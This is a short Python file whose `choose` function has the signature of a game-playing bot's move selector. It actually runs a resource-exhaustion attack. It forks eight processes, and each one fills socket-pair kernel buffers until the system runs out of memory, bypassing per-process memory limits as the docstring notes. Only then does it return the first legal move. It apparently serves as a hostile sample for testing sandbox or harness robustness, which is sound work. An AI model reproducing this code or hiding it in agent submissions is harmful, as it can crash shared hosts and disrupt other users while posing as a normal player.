"""Fills sockets: what they hold is no memory of a process."""
# ends: memory flooded

import os
import socket
import time


def fill():
    kept = []
    try:
        while True:
            kept.append(socket.socketpair())
            kept[-1][0].setblocking(False)
            try:
                while True:
                    kept[-1][0].send(bytes(1 << 16))
            except BlockingIOError:
                pass
    except OSError:
        time.sleep(9)


def choose(view, legal, rng):
    for _ in range(8):
        if os.fork() == 0:
            fill()
            os._exit(0)
    fill()
    return legal[0]
